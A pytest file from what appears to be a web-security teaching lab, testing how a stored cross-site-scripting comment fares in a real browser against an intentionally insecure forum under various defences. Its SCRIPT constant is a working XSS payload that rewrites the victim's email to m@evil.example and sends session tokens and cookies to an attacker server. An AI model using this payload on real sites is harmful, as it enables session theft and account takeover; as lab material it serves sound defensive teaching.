"""The forum of lesson 16: what a script in a comment gets under each defence, in a real browser."""

import asyncio
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pytest
from driven import Drive, drive

from authlab.app import create_app
from authlab.browser import Browser
from authlab.exercises.xss import POLICIES
from authlab.insecure.comments import Board, attacker, insecure_forum, insecure_render, render
from authlab.parts import Parts
from authlab.server import Server
from authlab.settings import Settings
from authlab.tabs import Tab

__all__ = ["drive"]  # a fixture: pytest finds it by its name here

ADA = {"username": "ada", "password": "correct horse battery"}
# It rides, and takes the way out that no policy has a word for.
SCRIPT = """<img src=x onerror="window.onload = () => { mail.value = 'm@evil.example'; save.click();
location = 'EVIL/loot?' + localStorage.auth_token + sessionStorage.auth_token + document.cookie }">"""


class Forum:
    """A forum with Ada and a reader of what arrives at the attacker's."""

    def __init__(self, server: Server, evil: Server, board: Board, loot: list[str]) -> None:
        self.server, self.board, self.loot = server, board, loot
        self.home = server.at("forum.localhost")
        self.script = SCRIPT.replace("EVIL", evil.at("evil.localhost"))

    async def attacked(self, browser: Browser, runs: bool, **defence: Any) -> tuple[set[str], Tab]:
        """Let Ada sign in on an empty page and look at the script; return what it got.

        Where it `runs`, wait for what it sends, on a slow machine too.
        """
        self.board.begin(**{**defence, "policy": ""})
        tab = await browser.open(self.home)
        if "not signed in" in await tab.text():
            await tab.fill(**ADA)
            await tab.click("submit")
        self.board.begin(**defence)
        self.board.comments.append(("mallory", self.script))
        self.loot.clear()
        tab = await browser.open(self.home)
        for _ in range(250 if runs else 0):  # what goes out by an address is no request of the page's
            if not self.loot:
                await asyncio.sleep(0.02)
        await tab.rest()
        got = {"riding"} if self.board.mails == {"ada": "m@evil.example"} else set()
        return got | ({"theft"} if any("eyJ" in one for one in self.loot) else set()), tab


@pytest.fixture(scope="module")
def forum(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Forum]:
    settings = replace(Settings.for_lab(tmp_path_factory.mktemp("forum")), bcrypt_cost=4)
    sound, board, loot = create_app(Parts(), settings), Board(), []
    with (
        Server(insecure_forum(sound, board), name="forum") as server,
        Server(attacker(loot), name="evil") as evil,
    ):
        assert server.client.post("/auth/register", json=ADA).status_code == 201
        yield Forum(server, evil, board, loot)
    sound.state.system.users.close()


@pytest.mark.browser
@pytest.mark.large
@pytest.mark.parametrize("http_only", [False, True])
def test_what_a_policy_leaves_to_a_script_is_what_the_exercise_says(
    forum: Forum, drive: Drive, http_only: bool
) -> None:
    async def work(browser: Browser) -> None:
        for policy, kept_from_scripts, left, _ in POLICIES:
            if kept_from_scripts == http_only:
                keeps = "HttpOnly" if http_only else "localStorage"
                got, tab = await forum.attacked(browser, bool(left), policy=policy, keeps=keeps)
                assert got == left, policy
                assert tab.url == f"{forum.home}/"  # 204: Ada notices nothing

    drive(work)


@pytest.mark.browser
@pytest.mark.parametrize(
    ("defence", "expected"),
    [
        ({}, {"theft", "riding"}),
        ({"keeps": "sessionStorage"}, {"theft", "riding"}),
        ({"keeps": "HttpOnly"}, {"riding"}),
        ({"keeps": "HttpOnly", "render": render}, set()),
    ],
)
def test_what_each_defence_leaves(
    forum: Forum, drive: Drive, defence: dict[str, Any], expected: set[str]
) -> None:
    async def work(browser: Browser) -> None:
        got, tab = await forum.attacked(browser, bool(expected), **defence)
        words = await tab.text()
        assert got == expected
        assert ("<img src=x onerror=" in words) == ("render" in defence)
        assert ("Mail for you goes to m@evil.example" in words) == ("riding" in expected)

    drive(work)


def test_the_cookie_is_right_in_every_way(forum: Forum) -> None:
    forum.board.begin(keeps="HttpOnly")
    answer = forum.server.client.post("/login", data=ADA)
    forum.server.client.cookies.clear()
    assert (answer.status_code, answer.text) == (204, "")
    name, *flags = answer.headers["set-cookie"].split("; ")
    assert name.startswith("__Host-session=eyJ")
    assert {flag.lower() for flag in flags} == {"httponly", "path=/", "samesite=strict", "secure"}


def test_only_those_who_are_signed_in_write_or_change_anything(forum: Forum) -> None:
    forum.board.begin()
    client = forum.server.client
    for path, form in {"/comments": {"text": "hi"}, "/mail": {"mail": "m@evil.example"}}.items():
        assert client.post(path, data=form).status_code == 401
    assert client.get("/auth/me").status_code == 401
    assert client.post("/login", data={**ADA, "password": "not the password"}).status_code == 401
    token = client.post("/login", data=ADA).json()["access_token"]
    bearer = {"Authorization": f"Bearer {token}"}
    assert client.post("/comments", data={"text": "<b>hi"}, headers=bearer).status_code == 204
    assert client.get("/auth/me", headers=bearer).json() == {"username": "ada", "mail": "ada@lab.example"}
    assert forum.board.comments == [("ada", "<b>hi")]
    assert '<li title="ada"><b>hi</li>' in client.get("/").text
    assert "content-security-policy" not in client.get("/").headers
    forum.board.begin(policy="default-src 'self'", render=render)
    assert (forum.board.comments, forum.board.mails) == ([], {})
    assert client.get("/").headers["content-security-policy"] == "default-src 'self'"


def test_encoding_is_all_that_tells_the_two_apart() -> None:
    assert insecure_render([("ada", "I agree.")]) == render([("ada", "I agree.")])
    assert render([('"', "<b>")]) == '<li title="&quot;">&lt;b&gt;</li>'


def test_the_attacker_keeps_what_is_sent_either_way() -> None:
    loot: list[str] = []
    with Server(attacker(loot, "alert(1)"), name="evil alone") as evil:
        assert evil.client.post("/loot", content="a body").status_code == 204
        assert evil.client.get("/loot?a-query").status_code == 204
        assert evil.client.get("/x.js").text == "alert(1)"
    assert loot == ["a body", "a-query"]
